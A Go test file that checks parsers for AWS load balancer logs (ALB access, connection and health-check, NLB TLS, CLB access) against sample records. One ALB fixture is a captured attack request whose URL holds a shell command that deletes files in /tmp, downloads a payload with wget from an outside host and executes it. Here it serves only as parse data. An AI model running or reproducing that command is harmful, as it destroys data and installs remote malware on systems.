// Copyright The awsloki Authors
// SPDX-License-Identifier: Apache-2.0

package s3log

import (
	"strings"
	"testing"
)

func TestALBAccess(t *testing.T) {
	assertSaid(
		t, ALBAccess,
		said{record: albSample, time: "2018-07-02T22:23:00.186641Z", status: 200},
		// Without a fraction, and of another type.
		said{record: strings.Replace(albSample, "http 2018-07-02T22:23:00.186641Z", "h2 2022-12-06T17:42:17Z", 1), time: "2022-12-06T17:42:17Z", status: 200},
		// The client has closed the connection.
		said{record: strings.Replace(albSample, " 200 200 34 ", " - - 34 ", 1), time: "2018-07-02T22:23:00.186641Z"},
		// https://github.com/elastic/integrations/issues/3491
		said{
			record: `http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 75.100.154.140:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect"`,
			time:   "2022-05-12T06:41:29.051646Z", status: 301,
		},
		said{record: strings.Replace(albSample, "2018-07-02T22:23:00.186641Z", "-", 1), status: 200},
		said{record: "http 2018-07-02T22:23:00.186641Z"}, // cut short, maybe
	)
}

func TestALBConnection(t *testing.T) {
	assertSaid(
		t, ALBConnection,
		// Not NotBefore.
		said{record: connectionSample, time: "2023-10-04T17:05:15.514108Z"},
		said{record: strings.Replace(connectionSample, "2023-10-04T17:05:15.514108Z", "-", 1)},
	)
}

func TestALBHealthCheck(t *testing.T) {
	assertSaid(
		t, ALBHealthCheck,
		said{record: healthCheckSample, time: "2025-10-31T12:44:58.901409Z", status: 502},
		said{record: `http 2025-10-31T12:44:59.875678Z 0.019584011 172.31.20.97:80 HCLogsTestIPs PASS 200 -`, time: "2025-10-31T12:44:59.875678Z", status: 200},
		said{record: `http 2025-10-31T12:44:59.875678Z 5.0 172.31.20.97:80 HCLogsTestIPs FAIL - TimedOut`, time: "2025-10-31T12:44:59.875678Z"},
		said{record: `grpc 2025-10-31T12:44:59.875678Z 0.1 172.31.20.97:80 HCLogsTestIPs PASS 12 -`, time: "2025-10-31T12:44:59.875678Z"},
		said{record: `http 2025-10-31T12:44:59.875678Z 0.019584011 172.31.20.97:80 HCLogsTestIPs PASS 200`, time: "2025-10-31T12:44:59.875678Z", status: 200},
	)
}

func TestNLBTLS(t *testing.T) {
	assertSaid(
		t, NLBTLS,
		said{record: nlbSample, time: "2020-04-01T08:51:42Z"},
		said{record: `tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd`, time: "2018-12-20T02:59:40Z"},
		said{record: `tls 2.0 2018-12-20T02:59:40.25Z net/my-network-loadbalancer/c6e77e28c25b2234`, time: "2018-12-20T02:59:40.25Z"},
		said{record: `tls 2.0 2018-12-20T02:59:40+01:00 net/my-network-loadbalancer/c6e77e28c25b2234`, time: "2018-12-20T01:59:40Z"},
		said{record: `tls 2.0 - net/my-network-loadbalancer/c6e77e28c25b2234`},
	)
}

func TestCLBAccess(t *testing.T) {
	assertSaid(
		t, CLBAccess,
		said{record: clbSample, time: "2015-05-13T23:39:43.945958Z", status: 200},
		// A TCP listener.
		said{record: `2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.001069 0.000028 0.000041 - - 82 305 "- - - " "-" - -`, time: "2015-05-13T23:39:43.945958Z"},
		// No backend.
		said{record: `2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 - -1 -1 -1 503 0 0 0 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -`, time: "2015-05-13T23:39:43.945958Z", status: 503},
	)
}
